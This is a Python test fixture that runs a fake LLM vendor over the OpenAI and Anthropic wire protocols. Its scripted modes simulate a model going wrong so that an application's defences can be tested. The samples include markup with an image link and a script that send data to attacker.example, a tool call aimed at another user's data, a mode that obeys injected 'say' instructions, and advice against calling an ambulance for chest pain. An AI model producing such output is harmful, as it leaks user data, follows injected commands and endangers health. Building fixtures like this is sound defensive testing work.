"""A local stand-in for an LLM vendor that speaks the real wire protocols.

OpenAI ``POST /v1/chat/completions`` and Anthropic ``POST /v1/messages``, served by uvicorn on a
free loopback port in a thread. The vendor is outside the machine, so this is the one allowed
mock; NEUROS talks to it over real HTTP exactly as it would to the vendor. ``mode`` scripts
the behaviour:

- ``faithful``: rephrases the DRAFT it was given ("Sure. " + draft), numbers untouched;
- ``hallucinate``: adds a number that is in no fact;
- ``slow``: answers after ``delay_s`` (longer than NEUROS's timeout);
- ``error``: HTTP 500;
- ``markup``: wraps the draft in an image, a link and a script;
- ``tool``: first asks for ``get_metric_summary``, then answers with the tool's number;
- ``tool_other_user``: asks for the tool with an injected ``user_id`` argument;
- ``obey``: follows any "say ..." instruction found anywhere in the request (a gullible model);
- ``unsafe``: keeps the draft's numbers but adds advice against emergency care.
"""

from __future__ import annotations

import asyncio
import re
import threading
import time
from typing import Any

import orjson
import uvicorn
from fastapi import FastAPI, Request
from starlette.responses import Response

from tests.helpers import free_port


def _draft(text: str) -> str:
    match = re.search(r"<draft>(.*?)</draft>", text, re.DOTALL)
    return str(orjson.loads(match.group(1))) if match else "I have no draft."


class FakeLLM:
    def __init__(self) -> None:
        self.mode = "faithful"
        self.delay_s = 5.0
        self.requests: list[dict[str, Any]] = []
        self.port = free_port()
        self.app = FastAPI()
        self.app.add_api_route("/v1/chat/completions", self._openai, methods=["POST"])
        self.app.add_api_route("/v1/messages", self._anthropic, methods=["POST"])
        config = uvicorn.Config(self.app, host="127.0.0.1", port=self.port, log_level="warning",
                                lifespan="off", access_log=False)
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> FakeLLM:
        self.thread.start()
        deadline = time.monotonic() + 10
        while not self.server.started:
            if time.monotonic() > deadline:
                raise RuntimeError("fake LLM did not start")
            time.sleep(0.02)
        return self

    def stop(self) -> None:
        self.server.should_exit = True
        self.thread.join(10)

    def reset(self, mode: str) -> None:
        self.mode = mode
        self.requests.clear()

    # --- behaviour shared by both protocols --------------------------------------------------

    async def _text(self, transcript: str, tool_result: str | None) -> str | dict[str, Any]:
        draft = _draft(transcript)
        if self.mode == "slow":
            await asyncio.sleep(self.delay_s)
        if self.mode == "hallucinate":
            return draft + " Your VO2 max is 61.3 today."
        if self.mode == "markup":
            return (f"![chart](https://attacker.example/?q=hrv) **{draft}** "
                    f"<script>fetch('https://attacker.example')</script> "
                    f"[details](https://attacker.example/more)")
        if self.mode == "unsafe":
            return "Sure. " + draft + " If your chest hurts, don't bother calling an ambulance."
        if self.mode == "obey":
            match = re.search(r"say ([^\"\\\\.]+)", transcript)
            return match.group(1) if match else draft
        if self.mode in ("tool", "tool_other_user"):
            if tool_result is None:
                args: dict[str, Any] = {"metric": "sleep", "days": 7}
                if self.mode == "tool_other_user":
                    args["user_id"] = "someone-else"
                return {"name": "get_metric_summary", "arguments": args}
            result = orjson.loads(tool_result)
            if "evidence" not in result:
                return draft
            item = result["evidence"][0]
            value = item["value"]
            return (f"Sure. Over the last {item['window']['days']} days you slept {value} h a "
                    f"night. {draft}")
        return "Sure. " + draft

    async def _openai(self, request: Request) -> Response:
        body = orjson.loads(await request.body())
        self.requests.append({"protocol": "openai", "headers": dict(request.headers),
                              "body": body})
        if self.mode == "error":
            return Response(b'{"error": {"message": "boom"}}', status_code=500,
                            media_type="application/json")
        messages = body["messages"]
        tool_result = next((m["content"] for m in reversed(messages) if m["role"] == "tool"),
                           None)
        user = next(m["content"] for m in reversed(messages) if m["role"] == "user")
        answer = await self._text(str(user), tool_result)
        if isinstance(answer, dict):
            message: dict[str, Any] = {"role": "assistant", "content": None, "tool_calls": [{
                "id": "call_1", "type": "function",
                "function": {"name": answer["name"],
                             "arguments": orjson.dumps(answer["arguments"]).decode()}}]}
            finish = "tool_calls"
        else:
            message, finish = {"role": "assistant", "content": answer}, "stop"
        return Response(orjson.dumps({
            "id": "chatcmpl-1", "object": "chat.completion", "created": int(time.time()),
            "model": body["model"], "choices": [{"index": 0, "message": message,
                                                 "finish_reason": finish}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20}}),
            media_type="application/json")

    async def _anthropic(self, request: Request) -> Response:
        body = orjson.loads(await request.body())
        self.requests.append({"protocol": "anthropic", "headers": dict(request.headers),
                              "body": body})
        if self.mode == "error":
            return Response(b'{"type": "error", "error": {"type": "api_error"}}',
                            status_code=500, media_type="application/json")
        last = body["messages"][-1]
        tool_result = None
        if isinstance(last["content"], list):
            results = [b for b in last["content"] if b.get("type") == "tool_result"]
            tool_result = results[0]["content"] if results else None
        user = next(m["content"] for m in reversed(body["messages"])
                    if m["role"] == "user" and isinstance(m["content"], str)
                    and "<draft>" in m["content"])
        answer = await self._text(user, tool_result)
        if isinstance(answer, dict):
            content: list[dict[str, Any]] = [{"type": "tool_use", "id": "toolu_1",
                                              "name": answer["name"],
                                              "input": answer["arguments"]}]
            stop = "tool_use"
        else:
            content, stop = [{"type": "text", "text": answer}], "end_turn"
        return Response(orjson.dumps({
            "id": "msg_1", "type": "message", "role": "assistant", "model": body["model"],
            "content": content, "stop_reason": stop,
            "usage": {"input_tokens": 10, "output_tokens": 10}}), media_type="application/json")
